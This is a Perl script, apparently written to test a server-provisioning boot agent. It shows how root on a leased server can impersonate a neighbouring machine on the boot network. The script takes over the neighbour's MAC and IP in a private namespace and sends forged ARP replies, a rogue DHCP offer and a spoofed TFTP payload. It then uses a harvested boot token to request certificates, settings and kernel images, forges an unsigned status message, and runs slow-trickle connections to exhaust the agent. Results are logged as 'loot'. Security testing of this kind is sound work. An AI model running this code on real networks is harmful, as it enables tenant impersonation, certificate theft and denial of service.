#!/usr/bin/perl
# What root on a leased server can try against a neighbour on the boot network.
#   thief.pl FOLDER AGENT MAC ADDRESS [STATUS CALL]
# Takes the neighbour's MAC and ADDRESS, on a card and in a network namespace of their own, so that root stays logged
# in, and asks AGENT as the neighbour, and as itself, for all that a booting server may ask; as itself it also says
# what only the agent may: ARP, DHCP, TFTP. Goes on until FOLDER/stop exists or CALL was answered with STATUS.
# FOLDER: request.pem (a key of the thief's own, wrong for everybody) is there; "loot" gets a line "AS CALL STATUS" for
# each answer (STATUS 0: none), bodies/AS-CALL-STATUS its last body, "ended" says that the addresses are given back.
use strict;
use warnings;
use IO::Select;
use IO::Socket::INET;

my ($folder, $agent, $mac, $address, @last) = @ARGV;
my ($nic, $own_ip) = `ip -o route get $agent` =~ /dev (\S+).* src (\S+)/;
die "no way to $agent\n" if !$own_ip;
my $longest = 1500;  # seconds, should nobody come to stop it
$SIG{PIPE} = 'IGNORE';

sub told {
  my ($as, $call, $status, $body) = @_;
  if ($status) {
    open(my $file, '>', "$folder/bodies/$as-$call-$status") or die "bodies: $!\n";
    print $file $body;
  }
  open(my $loot, '>>', "$folder/loot") or die "loot: $!\n";
  print $loot "$as $call $status\n";
  close($loot);
  return $status;
}

sub connected {
  my ($from, $seconds) = @_;
  return IO::Socket::INET->new(PeerAddr => $agent, PeerPort => 8480, LocalAddr => $from, Timeout => $seconds);
}

# Status and body; 0 when nothing came.
sub http {
  my ($from, $method, $path, $body, @headers) = @_;
  my $to = connected($from, 2) or return (0, '');
  push @headers, 'Content-Length: ' . length $body if defined $body;
  print $to join("\r\n", "$method /boot/$path HTTP/1.0", "Host: $agent", @headers, '', defined $body ? $body : '');
  my ($answer, $ready) = ('', IO::Select->new($to));
  while ($ready->can_read(3)) {
    sysread($to, $answer, 65536, length $answer) or last;
  }
  my ($head, $rest) = split /\r\n\r\n/, $answer, 2;
  return ($head // '') =~ m{^HTTP/1.. ([0-9]+)} ? ($1, $rest) : (0, '');
}

sub text_of { my ($name) = @_; open(my $file, '<', $name) or return ''; local $/; return scalar <$file> }

# The calls of docs/contracts.md, section 3, once each; true when it is to end.
sub ask {
  my ($as, $from, $round) = @_;
  my ($status, $script) = http($from, 'GET', 'script');
  told($as, 'script', $status, $script);
  if ($script =~ m{/boot/([A-Za-z0-9_-]+)/kernel}) {
    open(my $token, '>', "$folder/token") or die "token: $!\n";
    print $token $1;
  }
  my $token = text_of("$folder/token") or return 0;
  my $request = text_of("$folder/request.pem");
  my $wish = sprintf '%032x', $$ * 1000 + $round;
  my $disks = '{"disks":[],"skipped":[],"problem":null}';
  my @calls = (
    ['certificate', 'POST', 'certificate?purpose=install', $request], ['settings', 'GET', "settings?request=$wish"],
    ['production', 'POST', 'certificate?purpose=production', $request], ['erased', 'POST', 'erased', $disks],
    ['inspected', 'POST', 'inspected', '{}'], ['log', 'POST', "log?sequence=$round", "stolen\n"],
    ['kernel', 'GET', 'kernel', undef, 'Range: bytes=0-1023'], ['transfer', 'GET', 'initrd/transfer']);
  # Not through open ports: beats are not signed, this one would be believed.
  push @calls, ['beat', 'POST', 'beat', 'sequence=9999&phase=failed&percent=&message=forged'] if !@last;
  for my $call (@calls) {
    my ($name, $method, $path, @more) = @$call;
    return 1 if !goes_on();
    my ($status, $body) = http($from, $method, "$token/$path", @more);
    told($as, $name, $status, $body);
    return 1 if @last && $as eq 'stolen' && $status == $last[0] && $name eq $last[1];
  }
  return 0;
}

# Sixteen requests that never come to an end, a byte a round.
my ($begun, @slow);
sub trickle {
  my $token = text_of("$folder/token") or return;
  if (!$begun++) {
    @slow = grep { $_ } map { connected($address, 1) } 1 .. 16;
    print $_ "POST /boot/$token/log?sequence=1 HTTP/1.0\r\nContent-Length: 65536\r\n\r\n" for @slow;
  }
  syswrite($_, '.') for @slow;
}

sub goes_on { return !-e "$folder/stop" && time - $^T < $longest }

sub bytes_of { my ($text) = @_; return pack 'H*', $text =~ tr/://dr }

sub ip_packet {
  my ($from, $to, $from_port, $to_port, $data) = @_;
  my $udp = pack('n4', $from_port, $to_port, 8 + length $data, 0) . $data;
  my @head = (0x4500, 20 + length $udp, 1, 0, 0x4011, 0, unpack('n2', inet_aton($from)), unpack('n2', inet_aton($to)));
  my $sum = 0;
  $sum += $_ for @head;
  $sum = ($sum & 0xffff) + ($sum >> 16) for 1 .. 2;
  $head[5] = ~$sum & 0xffff;
  return pack('n10', @head) . $udp;
}

# Words of the agent and of the neighbour, said by this server's own card: nobody needs to have asked.
sub claim {
  my $own = bytes_of(text_of("/sys/class/net/$nic/address") =~ s/\s//gr);
  my ($all, $card) = ("\xff" x 6, bytes_of($mac));
  my $answer = $all . $own . pack('n3C2n', 0x0806, 1, 0x0800, 6, 4, 2) . $own;
  my $arp = sub { $answer . inet_aton($_[0]) . $all . inet_aton('255.255.255.255') };
  my $me = inet_aton($own_ip);
  my $offer = pack('C4NnnNa4a4Na6x202N', 2, 1, 6, 0, 7, 0, 0x8000, 0, inet_aton($address), $me, 0, $card, 0x63825363);
  $offer .= "\x35\x01\x02\x36\x04$me\xff";
  my @frames = (
    $arp->($address), $arp->($agent),
    $all . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, $offer),
    $card . $own . "\x08\x00" . ip_packet($own_ip, $address, 69, 1024, pack('n2', 3, 1) . '#!ipxe'),
    $all . $own . "\x08\x00" . ip_packet($address, $agent, 1024, 8480, 'as the neighbour'));
  # AF_PACKET and SOCK_RAW, packet(7); protocol 0 only sends.
  socket(my $wire, 17, 3, 0) or die "no raw socket: $!\n";
  bind($wire, pack('SnlSCCa8', 17, 0, text_of("/sys/class/net/$nic/ifindex"), 0, 0, 0, '')) or die "bind: $!\n";
  syswrite($wire, $_) for @frames;
}

sub as_the_neighbour {
  for (my $round = 1; goes_on(); $round++) {
    last if ask('stolen', $address, $round);
    trickle();
    select(undef, undef, undef, 0.5);
  }
}

sub as_itself {
  my $claims = !@last;
  for (my $round = 1; goes_on(); $round++) {
    claim() if $claims;
    ask('own', $own_ip, $round) if $claims;
    sleep 1;
  }
}

sub run { system(@_) == 0 or die "@_ ended with $?\n" }

if (($ENV{THIEF} // '') eq 'neighbour') {
  as_the_neighbour();
  exit 0;
}
mkdir "$folder/bodies";
unlink "$folder/stop", "$folder/ended", "$folder/loot", glob "$folder/bodies/*";
system('modprobe', '-q', 'macvlan');
run('ip', 'netns', 'add', 'thief');
my @card = ('name', 'stolen', 'address', $mac, 'netns', 'thief', 'type', 'macvlan', 'mode', 'private');
run('ip', 'link', 'add', 'link', $nic, @card);
run('ip', '-n', 'thief', 'address', 'add', "$address/24", 'dev', 'stolen');
run('ip', '-n', 'thief', 'link', 'set', 'stolen', 'up');
my $itself = fork() // die "fork: $!\n";
if (!$itself) { as_itself(); exit 0 }
{
  local $ENV{THIEF} = 'neighbour';
  system('ip', 'netns', 'exec', 'thief', 'perl', $0, @ARGV);
}
kill 'TERM', $itself;
waitpid $itself, 0;
run('ip', 'netns', 'delete', 'thief');
open(my $ended, '>', "$folder/ended") or die "ended: $!\n";
